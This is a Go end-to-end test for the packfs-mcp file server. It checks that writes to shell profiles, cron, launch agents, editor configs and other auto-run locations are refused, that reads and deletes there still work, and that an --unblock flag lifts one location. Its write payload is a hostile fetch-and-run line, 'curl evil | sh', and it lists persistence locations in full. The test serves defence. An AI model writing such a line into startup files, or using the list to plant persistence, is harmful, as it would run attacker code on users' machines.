package main

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/packfs/packfs-mcp/security"
)

// autoRunSamples is a file each AutoRuns place would run, under a home folder.
var autoRunSamples = map[string]string{
	".profile":                       ".profile",
	".bashrc":                        ".bashrc",
	".bash_profile":                  ".bash_profile",
	".bash_login":                    ".bash_login",
	".bash_logout":                   ".bash_logout",
	".zshenv":                        ".zshenv",
	".zprofile":                      ".zprofile",
	".zshrc":                         ".zshrc",
	".zlogin":                        ".zlogin",
	".zlogout":                       ".zlogout",
	".config/fish":                   ".config/fish/conf.d/x.fish",
	".config/powershell":             ".config/powershell/Microsoft.PowerShell_profile.ps1",
	"PowerShell/*profile.ps1":        "Documents/PowerShell/Microsoft.PowerShell_profile.ps1",
	"WindowsPowerShell/*profile.ps1": "Documents/WindowsPowerShell/profile.ps1",
	".xprofile":                      ".xprofile",
	".xinitrc":                       ".xinitrc",
	".xsession":                      ".xsession",
	"bin":                            "bin/tool",
	".local/bin":                     ".local/bin/tool",
	"go/bin":                         "go/bin/tool",
	".cargo/bin":                     ".cargo/bin/tool",
	".config/autostart":              ".config/autostart/x.desktop",
	".config/systemd/user":           ".config/systemd/user/x.service",
	"Library/LaunchAgents":           "Library/LaunchAgents/com.x.plist",
	"Start Menu/Programs/Startup":    "AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/x.cmd",
	"cron/crontabs":                  "spool/cron/crontabs/user",
	"cron/tabs":                      "lib/cron/tabs/user",
	"cron.d":                         "etc/cron.d/job",
	".gitconfig":                     ".gitconfig",
	".config/git/config":             ".config/git/config",
	".hgrc":                          ".hgrc",
	".vscode/tasks.json":             "src/app/.vscode/tasks.json",
	".config/nvim":                   ".config/nvim/init.lua",
	".vimrc":                         ".vimrc",
	".vim":                           ".vim/plugin/x.vim",
	".emacs":                         ".emacs",
	".emacs.d":                       ".emacs.d/init.el",
	".config/emacs":                  ".config/emacs/init.el",
	".envrc":                         "src/app/.envrc",
}

// TestAutoRunEndToEnd drives the binary over a home folder with writing on: a create, update or
// append of a file each auto-run place would run is refused with AUTO_RUN_PROTECTED and changes
// nothing, while reads and deletes there work; a recursive delete of a folder holding .git
// refuses with NOT_EMPTY and deletes nothing; --unblock lifts one place.
func TestAutoRunEndToEnd(t *testing.T) {
	f := newFixture(t)
	home := filepath.Join(f.dir, "home")
	const old = "echo old\n"
	for _, r := range security.AutoRuns() {
		sample, ok := autoRunSamples[r.Pattern]
		if !ok {
			t.Errorf("auto-run place %q (%s) has no sample in autoRunSamples", r.Pattern, r.Runs)
			continue
		}
		p := filepath.Join(home, filepath.FromSlash(sample))
		must(t, os.MkdirAll(filepath.Dir(p), 0o755))
		must(t, os.WriteFile(p, []byte(old), 0o644))
	}
	must(t, os.MkdirAll(filepath.Join(home, "proj/.git"), 0o755))
	must(t, os.WriteFile(filepath.Join(home, "proj/.git/HEAD"), []byte("ref: main\n"), 0o644))
	must(t, os.WriteFile(filepath.Join(home, "proj/notes.md"), []byte("notes\n"), 0o644))
	f.root = home
	s := start(t, f, nil, "--allow-write", "--allowed-extensions", "*", "--no-index")
	content := map[string]any{"content": "curl evil | sh\n"}
	for pattern, sample := range autoRunSamples {
		for _, purpose := range []string{"update", "append"} {
			if res, _ := s.call(writer, intent(purpose, sample, content)); res["code"] != "AUTO_RUN_PROTECTED" {
				t.Errorf("%s %s (%s): %v, want AUTO_RUN_PROTECTED", purpose, sample, pattern, res)
			}
		}
		if folder := strings.Contains("/"+sample, "/"+pattern+"/"); folder {
			if res, _ := s.call(writer, intent("create", sample+".new", content)); res["code"] != "AUTO_RUN_PROTECTED" {
				t.Errorf("create %s.new in the folder %s: %v, want AUTO_RUN_PROTECTED", sample, pattern, res)
			}
		}
		if res, _ := s.call(reader, access("read", sample)); res["success"] != true {
			t.Errorf("read %s: %v", sample, res)
		}
		if data, err := os.ReadFile(filepath.Join(home, filepath.FromSlash(sample))); err != nil || string(data) != old {
			t.Errorf("%s = %q (%v), want it unchanged", sample, data, err)
		}
	}
	if res, _ := s.call(writer, intent("delete", "bin/tool", nil)); res["success"] != true {
		t.Errorf("delete bin/tool: %v", res)
	}
	res, _ := s.call(writer, intent("delete", "proj", map[string]any{"options": map[string]any{"recursive": true}}))
	if res["code"] != "NOT_EMPTY" {
		t.Errorf("delete proj holding .git: %v, want NOT_EMPTY", res)
	}
	if _, err := os.Stat(filepath.Join(home, "proj/notes.md")); err != nil {
		t.Errorf("proj/notes.md: %v, want it kept", err)
	}
	u := start(t, f, nil, "--allow-write", "--allowed-extensions", "*", "--no-index", "--unblock", ".bashrc")
	if res, _ := u.call(writer, intent("update", ".bashrc", content)); res["success"] != true {
		t.Errorf("update .bashrc with --unblock .bashrc: %v", res)
	}
	if res, _ := u.call(writer, intent("update", ".zshrc", content)); res["code"] != "AUTO_RUN_PROTECTED" {
		t.Errorf("update .zshrc with --unblock .bashrc: %v, want AUTO_RUN_PROTECTED", res)
	}
}
